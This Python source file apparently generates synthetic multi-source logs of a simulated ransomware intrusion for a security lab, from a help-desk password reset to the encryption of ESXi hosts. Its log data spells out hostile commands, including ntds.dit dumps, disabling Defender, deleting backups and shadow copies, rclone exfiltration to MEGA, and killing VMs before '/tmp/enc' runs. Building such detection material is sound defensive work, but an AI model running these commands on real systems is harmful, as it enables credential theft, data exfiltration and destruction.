"""One attack, as lines of logs and nothing else: from a call at the help desk to machines that are switched off.

A method for each of the 22 stages that leaves something in a log. What varies with the seed: whose account it is, where the attackers come from,
and which of the usual ways they take. Nothing here does anything; what encrypts the lab's own disks is elsewhere (`day.site`).
"""

import random

from day import cloud, hosts
from day.company import DOMAIN_SID, OFFICE, SHORT
from day.machines import POWERSHELL, SERVICES, SYSTEM
from day.windows import DEFENDER, SECURITY, hash_of

HOUR = 3600.0
# When each stage begins, in hours of the day. What is bought (1) leaves nothing, and the chain (8) is of other stages' lines.
ONE_DAY = {2: 9.1, 3: 9.65, 4: 9.75, 5: 10.0, 6: 10.15, 7: 10.3, 9: 10.8, 10: 11.1, 11: 11.4, 12: 13.0, 13: 13.3, 14: 13.8}
ONE_DAY |= {15: 14.3, 16: 15.0, 17: 16.0, 18: 16.7, 19: 18.4, 20: 19.1, 21: 19.6, 22: 20.6}
# Days of the same, if it takes three weeks.
SLOWLY = {2: 9, 3: 10, 4: 10, 5: 10, 6: 10, 7: 10, 9: 11, 10: 12, 11: 13, 12: 14, 13: 15, 14: 15, 15: 16, 16: 17, 17: 17, 18: 18, 19: 19, 20: 19, 21: 18, 22: 19}
# From the first machine that is switched off to the first block that is overwritten, in seconds.
ENCRYPTION_AFTER = 900.0
CMD = "C:\\Windows\\System32\\cmd.exe"
LAIRS = [
    (("Amsterdam", "Netherlands", 52.37, 4.89, "193.32.{}.{}", 9009, "m247 europe srl"), True),
    (("London", "United Kingdom", 51.51, -0.13, "185.195.{}.{}", 39351, "31173 services ab"), True),
    (("Birmingham", "United Kingdom", 52.48, -1.89, "86.11.{}.{}", 5089, "virgin media"), False),
    (("Dallas", "United States", 32.78, -96.80, "47.185.{}.{}", 5650, "frontier communications"), False),
]
BROWSERS = [
    ("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "Linux", "FIREFOX"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", "Windows 10", "CHROME"),
]
REMOTE = [
    ("AnyDesk", '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service', "C:\\ProgramData\\AnyDesk\\AnyDesk.exe", "relay-4f1.net.anydesk.com"),
    ("ScreenConnect Client (9f1c2b)", '"C:\\Program Files (x86)\\ScreenConnect Client (9f1c2b)\\ScreenConnect.ClientService.exe"', "C:\\Program Files (x86)\\ScreenConnect Client (9f1c2b)\\ScreenConnect.ClientService.exe", "instance-k1x.screenconnect.com"),
    ("Teleport", "C:\\ProgramData\\tp\\teleport.exe start --config=C:\\ProgramData\\tp\\t.yaml", "C:\\ProgramData\\tp\\teleport.exe", "ops-kestrel.teleport.sh"),
]


class Attack:
    """`begins` tells when each stage begins, in seconds; stages that aren't in it are left out."""

    def __init__(self, day, seed, begins):
        self.chance = random.Random(f"attack {seed}")
        self.day, self.company, self.windows, self.begins = day, day.company, day.windows, begins
        self.victim = self.company.people[self.chance.randrange(1, 6)]
        self.agent = self.company.people[self.chance.randrange(8, 16)]
        (self.place, self.is_proxy) = self.chance.choice(LAIRS)
        self.address = self.place[4].format(self.chance.randrange(2, 250), self.chance.randrange(2, 250))
        self.browser, self.by_entra = self.chance.choice(BROWSERS), self.chance.random() < 0.35
        self.remote, self.dump, self.kills = self.chance.choice(REMOTE), self.chance.randrange(3), self.chance.random() < 0.5
        self.user, self.account = f"{SHORT}\\{self.victim.sam}", (self.victim.sam, self.victim.sid)
        self.inner = "10.20.200.251"
        self.jump, self.center = self.company.of_kind("jump")[0], self.company.of_kind("vcenter")[0]
        self.controller, self.files = self.company.of_kind("dc")[0], self.company.of_kind("file")[0]
        self.backup = self.company.of_kind("backup")[0]
        self.lines = []
        self.stage = None

    def make(self):
        """All lines: time, stream, text and stage of each."""
        for self.stage, time in sorted(self.begins.items(), key=lambda each: each[1]):
            getattr(self, f"stage_{self.stage}")(time)
        self.lines.sort(key=lambda line: line[0])
        return self.lines

    def put(self, time, stream, *lines):
        self.lines.extend((time, stream, line, self.stage) for line in lines)

    def run(self, time, machine, image, command, parent=CMD, user=None, **more):
        self.put(time, "windows", self.windows.process(time, machine, user or self.user, image, command, parent, **more))

    def shell(self, time, host, command):
        self.put(time, "network", hosts.shell(time, host, command))

    def event(self, kind, time, entity, text, user=None):
        self.put(time, "network", hosts.vcenter(time, self.center, kind, user or hosts.vcenter_user(self.victim.sam), entity, text))

    def okta(self, time, kind, who=None, **more):
        self.put(time, "okta", cloud.okta(time, kind, who or self.victim, self.place, self.address, browser=self.browser, proxy=self.is_proxy, **more))

    def stage_2(self, time):
        """Somebody who was called opens the false page."""
        machine, who = self.company.of_kind("desk")[9], self.company.people[9]
        chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
        self.put(time, "windows", self.windows.looked_up(time, machine, f"{SHORT}\\{who.sam}", chrome, "kestrel-retail-okta.example", "185.10.68.2"))

    def stage_3(self, time):
        address = OFFICE[4].format(10 + self.agent.number % 8)
        if self.by_entra:
            self.put(time, "entra", cloud.entra_audit(time, "Reset user password", self.agent, address, self.victim))
        else:
            self.put(time, "okta", cloud.okta(time, "user.account.reset_password", self.agent, OFFICE, address, target=[cloud.okta_user(self.victim)], said="Fired when the user's Okta password is reset"))

    def stage_4(self, time):
        address = OFFICE[4].format(10 + self.agent.number % 8)
        if self.by_entra:
            self.put(time, "entra", cloud.entra_audit(time, "Admin deleted security info", self.agent, address, self.victim, service="Authentication Methods", reason="Admin deleted Authenticator App"))
            more = {"service": "Authentication Methods", "reason": "Admin registered temporary access pass method for user"}
            self.put(time + 60, "entra", cloud.entra_audit(time + 60, "Admin registered security info", self.agent, address, self.victim, **more))
        else:
            self.put(time, "okta", cloud.okta(time, "user.mfa.factor.reset_all", self.agent, OFFICE, address, target=[cloud.okta_user(self.victim)], said="Reset all factors for user"))

    def stage_5(self, time):
        if self.by_entra:
            more = {"service": "Authentication Methods", "reason": "User registered Authenticator App with Notification and Code"}
            self.put(time, "entra", cloud.entra_audit(time, "User registered security info", self.victim, self.address, self.victim, **more))
            self.put(time + 50, "entra", cloud.entra_audit(time + 50, "Register device", self.victim, self.address, self.victim, category="Device", service="Device Registration Service"))
        else:
            self.okta(time - 50, "user.account.update_password", target=[cloud.okta_user(self.victim)], said="User update password for Okta")
            factor = cloud.okta_thing("AuthenticatorEnrollment", "Okta Verify")
            self.okta(time, "user.mfa.factor.activate", target=[cloud.okta_user(self.victim), factor], said="Activate factor or authenticator enrollment method for user")

    def stage_6(self, time):
        """Another administrator, whose password they have, is asked until he reports it or says yes. He doesn't."""
        other = self.company.people[6]
        for number in range(9):
            moment = time + number * 45
            self.okta(moment, "user.authentication.auth_via_mfa", other, target=[cloud.okta_user(other)], result="FAILURE", reason="FACTOR_VERIFICATION_FAILED")
            self.okta(moment - 1, "user.mfa.okta_verify.deny_push", other, target=[cloud.okta_user(other)], said="User rejected Okta push verify")

    def stage_7(self, time):
        self.okta(time, "user.authentication.auth_via_mfa", target=[cloud.okta_user(self.victim)], debug={"factor": "OKTA_VERIFY_PUSH"})
        self.okta(time + 2, "user.session.start", said="User login to Okta")
        for number, name in enumerate(["Office 365", "ServiceNow", "Confluence", "Okta Admin Console"]):
            self.okta(time + 60 + number * 95, "user.authentication.sso", target=[cloud.okta_thing("AppInstance", name)], said="User single sign on to app")
        self.put(time + 80, "entra", cloud.entra_sign_in(time + 80, self.victim, self.place, self.address, "Office365 Shell WCSS-Client", browser=self.browser, device=""))

    def stage_9(self, time):
        if self.by_entra:
            changes = [("DomainName", "null", '["kestrel-sso.example"]'), ("LiveType", '["Managed"]', '["Federated"]')]
            self.put(time, "entra", cloud.entra_audit(time, "Set federation settings on domain", self.victim, self.address, "kestrel-sso.example", category="DirectoryManagement", changes=changes, kind="Other"))
        else:
            self.okta(time, "system.idp.lifecycle.create", target=[cloud.okta_thing("IdentityProvider", "Partner SSO")], said="Create Identity Provider")
            self.okta(time + 70, "system.idp.lifecycle.activate", target=[cloud.okta_thing("IdentityProvider", "Partner SSO")], said="Activate Identity Provider")

    def stage_10(self, time):
        other = self.company.people[240]
        if self.by_entra:
            changes = [("Role.DisplayName", None, '"Global Administrator"'), ("Role.TemplateId", None, '"62e90394-69f5-4237-9190-012177145e10"')]
            self.put(time, "entra", cloud.entra_audit(time, "Add member to role", self.victim, self.address, other, category="RoleManagement", changes=changes))
        else:
            debug = {"privilegeGranted": "Super administrator", "requestUri": "/api/v1/users/role"}
            self.okta(time, "user.account.privilege.grant", target=[cloud.okta_user(other)], debug=debug, said="Grant user privilege")

    def stage_11(self, time):
        words = ["vpn", "vcenter password", "esxi root", "backup admin", "keepass", "network diagram", "domain admin", "service account password"]
        for number, word in enumerate(words):
            moment = time + number * 70
            self.put(moment, "office", cloud.office(moment, "SearchQueryPerformed", self.victim, self.address, "SharePoint", 4, SearchQueryText=word, EventSource="SharePoint"))
        for number in range(45):
            moment = time + 700 + number * 12
            self.put(moment, "office", cloud.shared_file(moment, "FileDownloaded", self.victim, self.address, f"Infrastructure/Runbooks/runbook {number}.docx"))
        more = {"Parameters": [{"Name": "Name", "Value": "."}, {"Name": "SubjectOrBodyContainsWords", "Value": "security;password;sign-in;okta"}, {"Name": "DeleteMessage", "Value": "True"}, {"Name": "MarkAsRead", "Value": "True"}]}
        self.put(time + 1500, "office", cloud.office(time + 1500, "New-InboxRule", self.victim, self.address, "Exchange", 1, ObjectId=f"{self.victim.upn}\\.", **more))

    def stage_12(self, time):
        self.put(time, "fortigate", hosts.tunnel(time, "tunnel-up", self.victim.sam, self.address, tunnelip=self.inner))
        self.put(time + 120, "windows", self.windows.ticket(time + 120, self.controller, self.account, self.inner))
        self.put(time + 130, "windows", self.windows.sign_in(time + 130, self.jump, self.account, 10, self.inner, self.jump.name))
        for number, machine in enumerate([self.files, *self.company.of_kind("app")[:7]]):
            moment = time + 400 + number * 60
            self.put(moment, "windows", self.windows.sign_in(moment, machine, self.account, 10, self.jump.address, machine.name))

    def stage_13(self, time):
        for number, (image, command) in enumerate([
            ("C:\\Windows\\System32\\whoami.exe", "whoami /all"), ("C:\\Windows\\System32\\nltest.exe", "nltest /dclist:"),
            ("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain'), ("C:\\Windows\\System32\\net.exe", 'net group "Enterprise Admins" /domain'),
            ("C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts"), ("C:\\Windows\\System32\\net.exe", 'net group "ESX Admins" /domain /add'),
            ("C:\\Windows\\System32\\net.exe", f'net group "ESX Admins" {self.victim.sam} /domain /add'),
        ]):
            self.run(time + number * 35, self.jump, image, command)
        group = {"TargetUserName": "ESX Admins", "TargetSid": f"{DOMAIN_SID}-4471"}
        self.put(time + 176, "windows", self.windows.account(time + 176, self.controller, 4727, self.account, ("ESX Admins", group["TargetSid"])))
        member = {"MemberName": f"CN={self.victim.name},OU=IT", "MemberSid": self.victim.sid}
        self.put(time + 211, "windows", self.windows.account(time + 211, self.controller, 4728, self.account, self.account, **group, **member))

    def stage_14(self, time):
        name, path, image, host = self.remote
        setup = "C:\\Users\\Public\\setup.exe"
        self.run(time, self.jump, setup, f"{setup} --install --silent", "C:\\Windows\\explorer.exe")
        self.put(time + 20, "windows", self.windows.service(time + 20, self.jump, name, path))
        self.run(time + 22, self.jump, image, path, SERVICES, user=SYSTEM)
        self.put(time + 25, "windows", self.windows.looked_up(time + 25, self.jump, SYSTEM, image, host, "13.35.1.7"))
        self.put(time + 27, "windows", self.windows.connection(time + 27, self.jump, SYSTEM, image, "13.35.1.7", 443, host))

    def stage_15(self, time):
        drivers = ("C:\\Windows\\Temp\\rzpnk.sys", "Razer USA Ltd."), ("C:\\ProgramData\\drv\\procexp152.sys", "Sysinternals")
        path, signature = self.chance.choice(drivers)
        self.put(time, "windows", self.windows.driver(time, self.jump, path, signature, format(hash_of(path), "064X")))
        self.run(time + 60, self.jump, POWERSHELL, "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true")
        self.put(time + 61, "windows", self.windows.script(time + 61, self.jump, "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"))
        self.put(time + 64, "windows", self.windows.line(time + 64, self.jump, DEFENDER, 5001, {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.25100.9008"}))

    def stage_16(self, time):
        self.put(time - 60, "windows", self.windows.sign_in(time - 60, self.controller, self.account, 10, self.jump.address, self.controller.name))
        if self.dump == 0:
            self.run(time, self.controller, "C:\\Windows\\System32\\ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full c:\\windows\\temp\\i" q q')
        elif self.dump == 1:
            self.run(time, self.controller, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin create shadow /for=C:")
            copy = "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\NTDS\\ntds.dit c:\\windows\\temp\\n.dit"
            self.run(time + 40, self.controller, CMD, copy)
        else:
            properties = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"
            data = {"SubjectUserSid": self.victim.sid, "SubjectUserName": self.victim.sam, "SubjectDomainName": SHORT, "SubjectLogonId": "0x81d2", "ObjectServer": "DS"}
            data |= {"ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "ObjectName": "%{c6e1a1f0-0000-0000-0000-000000000000}", "OperationType": "Object Access"}
            for number in range(3):
                line = self.windows.line(time + number, self.controller, SECURITY, 4662, data | {"AccessMask": "0x100", "Properties": properties, "AccessList": "%%7688"})
                self.put(time + number, "windows", line)

    def stage_17(self, time):
        self.event("vim.event.UserLoginSessionEvent", time - 90, "Datacenters", f"User {self.user}@{self.jump.address} logged in as Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
        added = '(key = 2001, deviceInfo = (label = "Hard disk 2", summary = "104,857,600 KB"), backing = (fileName = "ds:///vmfs/volumes/65f1c0aa-18e3/DC02/DC02.vmdk", diskMode = "independent_nonpersistent"), unitNumber = 1)'
        self.event("vim.event.VmPoweredOffEvent", time, "Leeds", "DC02 on esx02.kestrel-retail.example in Leeds is powered off")
        self.event("vim.event.VmReconfiguredEvent", time + 80, "Leeds", f"Reconfigured APP09 on esx02.kestrel-retail.example in Leeds.  Modified:  config.hardware.device(1000).device: (2000) -> (2000, 2001);  Added:  config.hardware.device(2001): {added};  Deleted:  ")
        self.event("vim.event.VmPoweredOnEvent", time + 1500, "Leeds", "DC02 on esx02.kestrel-retail.example in Leeds is powered on")

    def stage_18(self, time):
        self.put(time, "network", hosts.linux(time, self.center, "kernel", "Command line: BOOT_IMAGE=/vmlinuz root=/dev/mapper/vg_root_0-lv_root_0 rw init=/bin/bash", 6))
        said = "INFO Authorization Result: User=root, priv=ModifyConfiguration, authorized=True, request=com.vmware.appliance.access.ssh.set"
        self.put(time + 300, "network", hosts.linux(time + 300, self.center, "applmgmt", said, 14))
        self.put(time + 400, "network", hosts.ssh(time + 400, self.center, "root", self.jump.address, "password"))
        self.put(time + 700, "network", hosts.linux(time + 700, self.center, "systemd", "Started Teleport SSH Service.", 30, 1))

    def stage_19(self, time):
        for number, host in enumerate(self.company.of_kind("esxi")):
            moment = time + number * 240
            user = hosts.vcenter_user(self.victim.sam)
            self.put(moment, "network", hosts.vobd(moment, host, "esx.audit.ssh.enabled", "SSH access has been enabled."))
            self.put(moment + 1, "network", hosts.hostd(moment + 1, host, f"SSH access has been enabled. user={user}"))
            self.put(moment + 30, "network", hosts.hostd(moment + 30, host, f"Password was changed for account root on host {host.fqdn}"))
            self.put(moment + 60, "network", hosts.vobd(moment + 60, host, "esx.audit.ssh.session.opened", f"SSH session was opened for 'root@{self.jump.address}'."))
            self.put(moment + 60, "network", hosts.ssh(moment + 60, host, "root", self.jump.address, "keyboard-interactive/pam"))
            self.shell(moment + 80, host, "esxcli system settings advanced set -o /User/execInstalledOnly -i 0")

    def stage_20(self, time):
        user = hosts.vcenter_user(self.victim.sam)
        self.put(time - 60, "windows", self.windows.sign_in(time - 60, self.backup, self.account, 10, self.jump.address, self.backup.name))
        for number in range(6):
            moment = time + number * 20
            self.put(moment, "network", hosts.veeam(moment, self.backup, 10050, user, f"Restore point for VM 'app{number + 1:02d}' has been removed by user {user}."))
        self.put(time + 150, "network", hosts.veeam(time + 150, self.backup, 28200, user, "Backup repository Main has been deleted."))
        self.run(time + 300, self.files, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet")
        for number, machine in enumerate(self.company.of_kind("app", "sql", "file")):
            self.event("vim.event.TaskEvent", time + 420 + number * 9, machine.name, "Task: Remove all snapshots")

    def stage_21(self, time):
        copier = "C:\\ProgramData\\sync\\rclone.exe"
        self.run(time, self.files, copier, "rclone.exe copy E:\\Shares mega:k --transfers 32 --multi-thread-streams 12 --ignore-existing")
        self.put(time + 3, "windows", self.windows.looked_up(time + 3, self.files, self.user, copier, "g.api.mega.co.nz", "66.203.125.11"))

    def stage_22(self, time):
        for number, host in enumerate(self.company.of_kind("esxi")):
            moment = time + number * 20
            self.shell(moment, host, "esxcli vm process list" if self.kills else "vim-cmd vmsvc/getallvms")
            for machine in range(1, 10):
                command = f"esxcli vm process kill --type=force --world-id={2100000 + machine * 7}" if self.kills else f"vim-cmd vmsvc/power.off {machine}"
                self.shell(moment + 5 + machine, host, command)
                name = [machine.name for machine in self.day.company.machines if machine.kind not in ("esxi", "desk")][(number * 9 + machine) % 38]
                self.put(moment + 5.5 + machine, "network", hosts.hostd(moment + 5.5 + machine, host, f"{name} on {host.fqdn} in ha-datacenter is powered off"))
            self.shell(moment + 60, host, "chmod +x /tmp/enc")
            self.shell(moment + 70, host, "/tmp/enc /vmfs/volumes 20")
